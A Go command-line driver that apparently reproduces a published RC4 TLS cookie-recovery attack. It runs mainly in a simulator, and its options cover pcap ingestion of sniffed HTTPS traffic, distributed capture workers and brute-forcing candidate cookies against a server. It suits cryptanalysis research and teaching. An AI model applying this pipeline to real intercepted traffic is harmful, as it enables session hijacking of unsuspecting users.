// Command cookieattack runs the full §6 HTTPS cookie attack end to end in
// the in-process simulator: craft the aligned request, make the victim's
// browser issue many requests over one persistent RC4 TLS connection,
// collect ciphertext statistics (Fluhrer–McGrew digraphs plus ABSAB
// differentials against the injected known plaintext), generate the cookie
// candidate list with the charset-restricted list-Viterbi, and brute-force
// it against the server.
//
// Collection is interruptible and distributable, the way the paper's
// multi-hour captures (§6.3: 52 hours for 9·2^27 requests) have to run in
// practice:
//
//	# a checkpointed exact-mode shard; Ctrl-C flushes the snapshot
//	cookieattack -mode exact -ciphertexts 4194304 -seed 1 \
//	             -checkpoint shard1.snap -collect-only
//	# resume the killed shard from its checkpoint (same flags + -resume)
//	cookieattack -mode exact -ciphertexts 4194304 -seed 1 \
//	             -checkpoint shard1.snap -resume shard1.snap -collect-only
//	# a second, independently-seeded shard
//	cookieattack -mode model -ciphertexts 4194304 -seed 2 \
//	             -checkpoint shard2.snap -collect-only
//	# merge the shards and run the recovery phase on the pooled evidence
//	cookieattack -ciphertexts 0 -merge shard1.snap,shard2.snap
//
// Online mode closes the loop the way §6.2 describes — brute-forcing the
// candidate list against the server while capture continues — decoding on a
// cadence and stopping at the first server-confirmed cookie, usually far
// below the fixed budget:
//
//	cookieattack -online                       # geometric cadence 2^27, 2^28, ...
//	cookieattack -online -decode-every 33554432 # decode every 2^25 records
//	# an interrupted online run resumes mid-cadence
//	cookieattack -online -mode exact -checkpoint run.snap -resume run.snap
//
// Fleet-worker mode turns the driver into one capture node of a distributed
// run: it joins the cmd/fleetd coordinator, leases disjoint capture lanes,
// and streams each lane's evidence snapshot back until the coordinator
// confirms a cookie (see the fleet package):
//
//	cookieattack -fleet-worker coordinator:7100 -worker-id m1
//
// Trace mode ingests sniffed captures instead of simulating collection —
// the §6.3 pipeline (TCP reassembly, TLS record scanning, fixed-size
// request filtering) over pcap/pcapng files — and -write-pcap produces
// such captures from the simulator (the round trip is pinned bitwise
// against in-process capture):
//
//	cookieattack -write-pcap https.pcapng -ciphertexts 4194304 -seed 1
//	cookieattack -pcap https.pcapng -ciphertexts 4194304 -checkpoint shard.snap -collect-only
//	cookieattack -fleet-worker coordinator:7100 -pcap 'shard-*.pcap'   # serve exact lanes from trace shards
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"slices"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/job"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
)

func main() {
	ciphertexts := flag.Uint64("ciphertexts", job.Defaults("cookie").Budget, "total request copies this shard should hold, including resumed ones (paper: 9 x 2^27 for 94%); the online budget; 0 collects nothing (README \"Job spec\")")
	candidates := flag.Int("candidates", 0, "brute-force list depth, per decode round with -online (0 = attack default; paper: 2^23; README \"Job spec\")")
	secret := flag.String("secret", "Secur3C00kieVal+", "the secure cookie to recover: 1-16 characters of the RFC 6265 cookie charset")
	mode := flag.String("mode", "model", "collection mode: model (sampled sufficient statistics) | exact (real TLS records; slow beyond ~2^22)")
	seed := flag.Int64("seed", 1, "simulation seed; give independent shards different seeds")
	workers := flag.Int("workers", 0, "parallel workers for model-mode collection and decoding (0 = GOMAXPROCS)")
	checkpoint := flag.String("checkpoint", "", "snapshot file written on completion; exact mode also writes it periodically and on Ctrl-C; online mode writes it after every decode round")
	checkpointEvery := flag.Uint64("checkpoint-every", 1<<22, "records between periodic checkpoints in exact mode")
	resume := flag.String("resume", "", "snapshot file to resume this shard's collection from")
	merge := flag.String("merge", "", "comma-separated shard snapshots to merge into the evidence pool after collection")
	collectOnly := flag.Bool("collect-only", false, "stop after collection (use with -checkpoint to produce a shard snapshot)")
	onlineMode := flag.Bool("online", false, "closed-loop mode: decode while capturing, stop at the first server-confirmed cookie")
	decodeEvery := flag.Uint64("decode-every", 0, "online: records between decode attempts (0 = geometric cadence from -first-decode)")
	firstDecode := flag.Uint64("first-decode", 0, "online: records at the first decode attempt (0 = attack default, clamped to -ciphertexts; README \"Job spec\")")
	fleetWorker := flag.String("fleet-worker", "", "join the cmd/fleetd coordinator at this address as a capture worker")
	workerID := flag.String("worker-id", "", "fleet worker name (default hostname-pid)")
	pcapIn := flag.String("pcap", "", "ingest record evidence from capture files (comma-separated paths/globs, pcap or pcapng; streamed, never slurped); with -fleet-worker, serve exact-mode lanes from the files")
	writePcap := flag.String("write-pcap", "", "write the exact-mode victim stream (-ciphertexts records from -seed) as a capture file and exit (.pcapng extension selects pcapng, else classic pcap)")
	jsonOut := flag.Bool("json", false, "append one machine-readable JSON result line to stdout")
	flag.Parse()

	spec, err := job.Spec{Attack: "cookie", Mode: *mode, Seed: *seed, Secret: *secret, Budget: *ciphertexts,
		FirstDecode: *firstDecode, DecodeEvery: *decodeEvery, MaxCandidates: *candidates,
		Workers: *workers, Traces: *pcapIn}.Normalize()
	if err != nil {
		fatal(err)
	}
	// Normalize reads a zero budget as the default; -ciphertexts 0 collects
	// nothing, so an offline run recovers from its -merge shards alone.
	spec.Budget = *ciphertexts
	fmt.Println("[1/4] crafting aligned request (cookie first in header, injected padding after)...")
	cfg, _, err := job.CookieLayout(spec.Secret)
	if err != nil {
		fatal(err)
	}
	fmt.Printf("      cookie at offset %d (keystream counter base %d)\n", cfg.Offset, cfg.CounterBase)

	if *writePcap != "" {
		fmt.Printf("[2/2] writing %d records of the exact victim stream (seed %d) -> %s\n", spec.Budget, spec.Seed, *writePcap)
		size, err := spec.WriteCapture(*writePcap, spec.Budget)
		if err != nil {
			fatal(err)
		}
		fmt.Printf("      %d records, %.1f MB\n", spec.Budget, float64(size)/(1<<20))
		return
	}

	if *fleetWorker != "" {
		// Model-mode lanes draw their sufficient statistics from the lane's
		// derived seed; exact-mode lanes replay the victim stream from the
		// lane's absolute offset, or carve it out of the -pcap trace shards.
		if err := spec.RunWorker(*fleetWorker, *workerID); err != nil {
			fatal(err)
		}
		return
	}
	rt, err := job.Resume(spec, *resume)
	if err != nil {
		fatal(err)
	}
	anchors := rt.Decoder.(*cookieattack.Attack).AnchorsPerPair()
	fmt.Printf("      ABSAB anchors per pair: %d..%d (paper: 2x129)\n", slices.Min(anchors), slices.Max(anchors))

	err = job.CLI{
		Checkpoint: *checkpoint, CheckpointEvery: *checkpointEvery,
		Merge: cliutil.SplitList(*merge), CollectOnly: *collectOnly,
		Online: *onlineMode, JSON: *jsonOut,
		Live: func(n uint64) string {
			return fmt.Sprintf("%.1f h of traffic at %d req/s", float64(n)/netsim.HTTPSRequestsPerSecond/3600, netsim.HTTPSRequestsPerSecond)
		},
		Recovered: func(res online.Result) []byte {
			fmt.Printf("[4/4] server accepted cookie %q (%d checks: %.1f s at %d checks/s live)\n", res.Plaintext,
				res.Checks, float64(res.Checks)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
			if string(res.Plaintext) == *secret {
				fmt.Println("      recovered cookie matches the secret — attack complete")
			}
			return res.Plaintext
		},
	}.Run(rt)
	if err != nil {
		fatal(err)
	}
}

// fatal exits 1 on err, or 130 on an interrupted capture (whose checkpoint
// flush the capture loop already reported).
func fatal(err error) {
	if errors.Is(err, cliutil.ErrInterrupted) {
		os.Exit(130)
	}
	fmt.Fprintln(os.Stderr, "cookieattack:", err)
	os.Exit(1)
}
